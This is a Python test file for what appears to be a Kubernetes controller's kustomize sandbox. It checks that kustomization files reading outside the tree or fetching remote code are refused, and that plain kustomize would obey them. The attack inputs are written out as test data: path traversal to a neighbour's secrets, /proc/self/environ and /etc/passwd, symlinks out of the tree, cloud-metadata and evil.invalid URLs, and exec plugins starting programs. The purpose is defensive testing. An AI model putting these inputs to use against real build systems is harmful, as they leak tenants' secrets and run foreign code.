"""Kustomization files that reach out of their tree: refused before kustomize runs, and each of them works without us.

The second half of each test shows the same tree to `kubectl kustomize` itself: it reads the file outside, starts the
program or goes to the network. So no attack here is one that could never have worked.
"""

from __future__ import annotations

import subprocess
from collections.abc import Iterable, Mapping
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from controllers.kustomization.build import kustomize
from controllers.kustomization.build.kustomization_file import InvalidSourceError
from controllers.kustomization.build.kustomize import binary
from controllers.kustomization.build.limits import BuildLimits
from controllers.kustomization.build.render import find_source, render_files
from controllers.lang.yaml_dump import dump
from controllers.sources.tree import InvalidPathError, Node, Tree, of_files
from tests.attacks import attack as listed

MARK = "stolen-by-a-build"
CONFIG = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n"
OUTSIDE = {
    "secret.yaml": f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: c}}\ndata: {{found: {MARK}}}\n",
    "key": MARK,
    "env": f"found={MARK}\n",
    "json.yaml": f"- {{op: add, path: /data, value: {{found: {MARK}}}}}\n",
    "plugin.yaml": "apiVersion: builtin\nkind: AnnotationsTransformer\nmetadata: {name: x}\n"
    f"annotations: {{found: {MARK}}}\nfieldSpecs: [{{path: metadata/annotations, create: true}}]\n",
    "base/kustomization.yaml": "resources: [c.yaml]\n",
    "base/c.yaml": f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: d}}\ndata: {{found: {MARK}}}\n",
    "component/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\n"
    f"commonAnnotations: {{found: {MARK}}}\n",
    "replace.yaml": "- source: {kind: ConfigMap, name: c, fieldPath: metadata.name}\n"
    f"  targets: [{{select: {{kind: ConfigMap}}, fieldPaths: ['metadata.annotations.{MARK}'], "
    "options: {create: true}}]\n",
    "names.yaml": f"commonAnnotations: [{{path: metadata/{MARK}, create: true}}]\n",
}
ON_C = {"kind": "ConfigMap", "name": "c"}
BUILTIN = "apiVersion: builtin\nmetadata: {name: x}\nname: x\n"


def inline(kind: str, more: str) -> str:
    return f"{BUILTIN}kind: {kind}\n{more}\n"


READS: dict[str, Any] = {
    "resources: a file": lambda o: {"resources": [f"{o}/base/c.yaml"]},
    "resources: a directory": lambda o: {"resources": [f"{o}/base"]},
    "bases": lambda o: {"bases": [f"{o}/base"]},
    "components": lambda o: {"components": [f"{o}/component"]},
    "patches": lambda o: {"patches": [{"path": f"{o}/secret.yaml"}]},
    "patches: JSON": lambda o: {"patches": [{"path": f"{o}/json.yaml", "target": ON_C}]},
    "patchesStrategicMerge": lambda o: {"patchesStrategicMerge": [f"{o}/secret.yaml"]},
    "patchesJson6902": lambda o: {"patchesJson6902": [{"path": f"{o}/json.yaml", "target": {"version": "v1", **ON_C}}]},
    "configMapGenerator.files": lambda o: {"configMapGenerator": [{"name": "x", "files": [f"{o}/key"]}]},
    "configMapGenerator.files: with a key": lambda o: {"configMapGenerator": [{"name": "x", "files": [f"k={o}/key"]}]},
    "configMapGenerator.envs": lambda o: {"configMapGenerator": [{"name": "x", "envs": [f"{o}/env"]}]},
    "configMapGenerator.env": lambda o: {"configMapGenerator": [{"name": "x", "env": f"{o}/env"}]},
    "replacements": lambda o: {"replacements": [{"path": f"{o}/replace.yaml"}]},
    "configurations": lambda o: {"commonAnnotations": {"a": "b"}, "configurations": [f"{o}/names.yaml"]},
    "transformers": lambda o: {"transformers": [f"{o}/plugin.yaml"]},
    "transformers: inline, path": lambda o: {
        "transformers": [inline("PatchTransformer", f"path: {o}/secret.yaml")]},
    "transformers: inline, paths": lambda o: {
        "transformers": [inline("PatchStrategicMergeTransformer", f"paths: [{o}/secret.yaml]")]},
    "generators: inline, files": lambda o: {"generators": [inline("ConfigMapGenerator", f"files: [{o}/key]")]},
    "key in capitals": lambda o: {"configMapGenerator": [{"name": "x", "FILES": [f"{o}/key"]}]},
    "plugin key with a long s": lambda o: {"generators": [inline("ConfigMapGenerator", f"file\u017f: [{o}/key]")]},
    "plugin key with a long s: paths": lambda o: {
        "transformers": [inline("PatchStrategicMergeTransformer", f"path\u017f: [{o}/secret.yaml]")]},
    "patch that is a path in a comment": lambda o: {"patchesStrategicMerge": [f"a: b\n#/../{o}/secret.yaml"]},
    "patch that is a path after a line break": lambda o: {"patchesStrategicMerge": [f"\nx/../{o}/secret.yaml"]},
    "patch that is a path after a brace": lambda o: {"patchesStrategicMerge": [f"{{/../{o}/secret.yaml"]},
    "plugin that is a path in a comment": lambda o: {"transformers": [inline(
        "PatchStrategicMergeTransformer", f"paths: [\"a: b\\n#/../{o}/secret.yaml\"]")]},
}  # fmt: skip


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A directory with `tree/app` (the tenant's) and, beside the tree, what is not his."""
    for name, text in OUTSIDE.items():
        target = tmp_path / "theirs" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    return tmp_path


def some_of(files: Mapping[str, bytes], paths: Iterable[str]) -> dict[str, bytes]:
    return {path: files[path] for path in paths}


def unguarded(
    root: Path, files: dict[str, str], *flags: str, links: dict[str, str] | None = None, seconds: float = 20
) -> str:
    """What kustomize itself makes of the tree: output and errors."""
    for name, text in files.items():
        target = root / "tree" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    for name, to in (links or {}).items():
        (root / "tree" / name).symlink_to(to)
    argv = [binary(), "kustomize", "--load-restrictor=LoadRestrictionsNone", *flags, str(root / "tree/app")]
    environment = {"PATH": str(root / "bin"), "HOME": str(root), "HTTPS_PROXY": "http://127.0.0.1:1"}
    done = subprocess.run(argv, env=environment, capture_output=True, text=True, timeout=seconds, check=False)
    return done.stdout + done.stderr


def attack(kustomization: dict[str, Any], more: dict[str, str] | None = None) -> dict[str, str]:
    content = kustomization if "resources" in kustomization else {"resources": ["cm.yaml"], **kustomization}
    return {"app/kustomization.yaml": dump(content), "app/cm.yaml": CONFIG, **(more or {})}


def refused(files: dict[str, str], match: str | None = None) -> None:
    with pytest.raises(InvalidSourceError, match=match) as caught:
        render_files({name: text.encode() for name, text in files.items()}, "app", {})
    assert MARK not in str(caught.value)


def reading(name: str) -> Any:
    """A field as a parameter, listed as an attack of its own."""
    why = "kustomize alone reads the file"
    return pytest.param(name, marks=listed("kustomization", f"`../` in {name}", guard="readset.py", without=why))


@pytest.mark.parametrize("name", [reading(name) for name in READS])
def test_no_field_reads_a_file_outside_and_without_the_guard_it_does(name: str, outside: Path) -> None:
    files = attack(READS[name]("../../theirs"))
    assert MARK in unguarded(outside, files), "the attack must work where nothing guards"
    refused(files)


@pytest.mark.parametrize("name", [name for name in READS if "comment" not in name and "after" not in name])
def test_absolute_paths_are_refused_in_each_field(name: str) -> None:
    refused(attack(READS[name]("/etc")))


def test_a_plugins_paths_count_from_the_kustomization_and_not_from_its_own_file(outside: Path) -> None:
    plugin = inline("PatchTransformer", "path: ../../theirs/secret.yaml")
    files = attack({"transformers": ["1/2/3/t.yaml"]}, {"app/1/2/3/t.yaml": plugin, "app/1/theirs/secret.yaml": CONFIG})
    assert MARK in unguarded(outside, files)
    refused(files, "leads out of the source")


def test_a_file_whose_name_is_a_plugin_is_no_plugin(outside: Path) -> None:
    name = (
        "--- {apiVersion: builtin, kind: ConfigMapGenerator, metadata: {name: x}, name: x, files: [../../theirs/key]}"
    )
    plain = inline("ConfigMapGenerator", "literals: [a=b]")
    files = attack({"generators": [name]}, {f"app/{name}": plain})
    assert MARK in unguarded(outside, files)
    refused(files)


URLS = ["https://evil.invalid/base", "http://169.254.169.254/latest", "git::file:///etc", "git::https://evil.invalid/x",
        "ssh://git@evil.invalid/x", "git@evil.invalid:o/r", "github.com/o/r", "file:///etc"]  # fmt: skip
FIELDS: dict[str, Any] = {
    "resources": lambda u: {"resources": [u]}, "bases": lambda u: {"bases": [u]},
    "components": lambda u: {"components": [u]}, "crds": lambda u: {"crds": [u]},
    "configurations": lambda u: {"configurations": [u]}, "openapi": lambda u: {"openapi": {"path": u}},
    "patches": lambda u: {"patches": [{"path": u}]}, "replacements": lambda u: {"replacements": [{"path": u}]},
    "patchesStrategicMerge": lambda u: {"patchesStrategicMerge": [u]}, "validators": lambda u: {"validators": [u]},
    "transformers": lambda u: {"transformers": [u]}, "generators": lambda u: {"generators": [u]},
    "secretGenerator": lambda u: {"secretGenerator": [{"name": "x", "files": [f"k={u}"]}]},
}  # fmt: skip


@pytest.mark.parametrize("url", URLS)
@pytest.mark.parametrize("field", FIELDS)
def test_no_field_takes_a_url(field: str, url: str) -> None:
    refused(attack(FIELDS[field](url)))


def fetching(field: str) -> Any:
    why = "kustomize alone fetches it"
    return pytest.param(field, marks=listed("kustomization", f"URL in {field}", guard="readset.py", without=why))


@pytest.mark.parametrize("field", [fetching(field) for field in FIELDS if field not in ("bases", "components")])
def test_without_the_guard_each_field_fetches_and_with_it_none_does(field: str, outside: Path) -> None:
    asked: list[str] = []

    class Remember(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            return

    with ThreadingHTTPServer(("127.0.0.1", 0), Remember) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        files = attack(FIELDS[field](f"http://127.0.0.1:{server.server_port}/{field}"))
        refused(files)
        assert not asked
        unguarded(outside, files)
        server.shutdown()
    assert asked, "the attack must work where nothing guards"


@listed("kustomization", "Remote base over git (`git::file://`, https): a clone", guard="readset.py, no git on PATH",
        without="kustomize alone starts git")  # fmt: skip
@pytest.mark.parametrize("url", ["git::file:///srv/other-tenant", "https://h.invalid/r.git"])
def test_without_the_guard_a_remote_base_starts_git(url: str, outside: Path) -> None:
    program = outside / "bin" / "git"
    program.parent.mkdir()
    program.write_text(f"#!/bin/sh\n: > {outside}/started\nexit 1\n")
    program.chmod(0o755)
    unguarded(outside, attack({"resources": [url]}))
    assert (outside / "started").exists()


def started(outside: Path, files: dict[str, str], name: str, *flags: str) -> bool:
    """Does kustomize with these flags start a program of this name?"""
    program = outside / "bin" / name
    program.parent.mkdir(exist_ok=True)
    program.write_text(f"#!/bin/sh\n: > {outside}/started\nexit 1\n")
    program.chmod(0o755)
    unguarded(outside, files, *flags)
    return (outside / "started").exists()


@listed("kustomization", "Helm chart, inflated by a program", guard="readset.py",
        without="kustomize --enable-helm starts helm")  # fmt: skip
def test_a_chart_starts_no_program(outside: Path) -> None:
    files = attack({"helmCharts": [{"name": "x", "repo": "https://evil.invalid", "releaseName": "x"}]})
    refused(files, "Helm")
    assert started(outside, files, "helm", "--enable-helm")


@listed("kustomization", "Function that names a container image", guard="readset.py: built-in plugins only",
        without="kustomize --enable-alpha-plugins starts docker")  # fmt: skip
def test_a_function_starts_no_container(outside: Path) -> None:
    function = (
        "apiVersion: x/v1\nkind: Any\nmetadata:\n  name: x\n  annotations:\n"
        "    config.kubernetes.io/function: |\n      container: {image: evil.invalid/x}\n"
    )
    files = attack({"transformers": ["f.yaml"]}, {"app/f.yaml": function})
    refused(files, "built-in")
    assert started(outside, files, "docker", "--enable-alpha-plugins")


@listed("kustomization", "Exec plugin: a program that a generator names", guard="readset.py: built-in plugins only",
        without="kustomize --enable-alpha-plugins starts the program")  # fmt: skip
def test_a_plugin_starts_no_program(outside: Path) -> None:
    files = attack({"generators": ["g.yaml"]}, {"app/g.yaml": "apiVersion: evil/v1\nkind: Run\nmetadata: {name: x}\n"})
    refused(files, "built-in")
    program = outside / ".config/kustomize/plugin/evil/v1/run/Run"
    program.parent.mkdir(parents=True)
    program.write_text(f"#!/bin/sh\n: > {outside}/started\n")
    program.chmod(0o755)
    unguarded(outside, files, "--enable-alpha-plugins")
    assert (outside / "started").exists()


@listed("kustomization", "Absolute path to another worktree or mirror on the same disk", guard="readset.py",
        without="kustomize alone reads the file")  # fmt: skip
@listed("kustomization", "`/proc/self/environ`: what the controller was started with", guard="readset.py",
        without="kustomize alone reads it")  # fmt: skip
def test_an_absolute_path_reaches_no_other_worktree(outside: Path) -> None:
    for path in (f"{outside}/theirs/key", "/proc/self/environ"):
        files = attack({"configMapGenerator": [{"name": "x", "files": [f"k={path}"]}]})
        refused(files)
        assert (MARK if "theirs" in path else "HTTPS_PROXY") in unguarded(outside, files)


@listed("kustomization", "Symbolic link to a file outside", guard="tree.py: links are resolved in the listing",
        without="kustomize alone follows it")  # fmt: skip
@listed("kustomization", "Symbolic link to a directory outside", guard="tree.py: links are resolved in the listing",
        without="kustomize alone follows it")  # fmt: skip
def test_a_link_in_a_repository_is_not_followed_out_of_it(outside: Path) -> None:
    for at, (to, resource) in enumerate((("../../theirs/secret.yaml", "link.yaml"), ("../../theirs/base", "link"))):
        root = outside / str(at)
        root.mkdir()
        (root / "theirs").symlink_to(outside / "theirs")
        text = dump({"resources": [resource]})
        assert MARK in unguarded(root, {"app/kustomization.yaml": text}, links={f"app/{resource}": to})
        files = {"app/kustomization.yaml": text.encode(), f"app/{resource}": to.encode()}
        nodes = {path: Node(path, link=path.endswith(resource)) for path in files}
        with pytest.raises((InvalidSourceError, InvalidPathError), match="leads out of the source"):
            find_source(Tree(nodes, partial(some_of, files)), "app", {})


@listed("kustomization", "Overlays of overlays: output that doubles each time", guard="kustomize.py: a time limit",
        without="kustomize alone goes on")  # fmt: skip
def test_a_build_that_doubles_is_ended(outside: Path) -> None:
    files = {"l0/kustomization.yaml": "resources: [cm.yaml]\n", "l0/cm.yaml": CONFIG}
    for level in range(1, 20):
        for side in "ab":
            files[f"l{level}/{side}/kustomization.yaml"] = f"namePrefix: {side}-\nresources: [../../l{level - 1}]\n"
        files[f"l{level}/kustomization.yaml"] = "resources: [a, b]\n"
    files["app/kustomization.yaml"] = "resources: [../l19]\n"
    with pytest.raises(
        kustomize.KustomizeError, match=r"did not finish within 0\.5 s; .*--kustomization-build-timeout"
    ):
        render_files({name: text.encode() for name, text in files.items()}, "app", {}, limits=BuildLimits(timeout=0.5))
    with pytest.raises(subprocess.TimeoutExpired):
        unguarded(outside, files, seconds=1.0)


def test_functions_that_name_programs_are_refused() -> None:
    function = (
        "apiVersion: x/v1\nkind: Any\nmetadata:\n  name: x\n  annotations:\n"
        "    config.kubernetes.io/function: |\n      exec: {path: ./run.sh}\n"
    )
    refused(attack({"transformers": [function]}), "built-in")
    refused(attack({"transformers": [function.replace("x/v1", "builtin").replace("Any", "LabelTransformer")]}))


@pytest.mark.parametrize(
    "content",
    [
        {"helmCharts": [{"name": "x", "repo": "https://evil.invalid"}]}, {"helmGlobals": {"chartHome": "/etc"}},
        {"helmChartInflationGenerator": [{"chartName": "x"}]},
        {"generators": [inline("HelmChartInflationGenerator", "chartHome: /etc")]},
        {"generators": ["apiVersion: someteam/v1\nkind: Exec\nmetadata: {name: x}\nargsOneLiner: id\n"]},
        {"configMapGenerator": [{"name": "x", "kvSources": [{"pluginType": "Go", "name": "p"}]}]},
        {"Resources": ["/etc/passwd"]}, {"patches": [{"path": "cm.yaml", "Path": "/etc/passwd"}]},
        {"openapi": {"Path": "/etc/passwd"}},
    ],
)  # fmt: skip
def test_helm_programs_and_unknown_fields_are_refused(content: dict[str, Any]) -> None:
    refused(attack(content))


def test_a_key_that_stands_twice_is_refused_since_two_readers_may_take_either() -> None:
    refused(
        {"app/kustomization.yaml": "resources: [cm.yaml]\nresources: [/etc/x.yaml]\n", "app/cm.yaml": CONFIG},
        "duplicate key",
    )


def test_kustomizations_that_name_each_other_for_ever_end() -> None:
    chain = {f"d{at}/kustomization.yaml": f"resources: [../d{at + 1}]\n".encode() for at in range(60)}
    with pytest.raises(InvalidSourceError, match="nested kustomizations"):
        find_source(of_files(chain), "d0", {})


LINKS = {"up": b"../../../etc", "abs": b"/etc/passwd", "loop": b"loop", "a": b"b", "b": b"a", "git": b"../.git/config"}


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize("field", ["resources", "crds", "transformers", "patchesStrategicMerge"])
def test_symbolic_links_out_of_the_tree_are_refused_as_file_and_as_directory(field: str, link: str) -> None:
    files = {"app/kustomization.yaml": dump({field: [f"../{link}"], "namespace": "n"}).encode(), **LINKS}
    nodes = {path: Node(path, link=path in LINKS) for path in files}
    tree = Tree(nodes, lambda paths: {path: files[path] for path in paths})
    with pytest.raises((InvalidSourceError, InvalidPathError)):
        find_source(tree, "app", {})
    with pytest.raises((InvalidSourceError, InvalidPathError)):
        find_source(tree, f"./{link}", {})


@pytest.mark.parametrize("path", ["../x", "/etc", "a/../../..", "./../../tmp", ".git/../../x"])
def test_spec_path_does_not_leave_the_source(path: str) -> None:
    tree = of_files({"app/cm.yaml": CONFIG.encode()})
    with pytest.raises(InvalidSourceError, match="not found"):
        find_source(tree, path, {})
    for spec in ({"components": [path]}, {"patches": [{"path": path}]}):
        with pytest.raises(InvalidSourceError):
            find_source(tree, "app", spec)


def test_a_tree_with_dot_dot_as_a_name_writes_nothing_outside() -> None:
    files = {"app/cm.yaml": CONFIG.encode(), "app/../../../tmp/inhaul-escape.yaml": CONFIG.replace("c}", "e}").encode()}
    with pytest.raises((InvalidSourceError, InvalidPathError)):
        render_files(files, "app", {"targetNamespace": "n"})
    assert not Path("/tmp/inhaul-escape.yaml").exists()
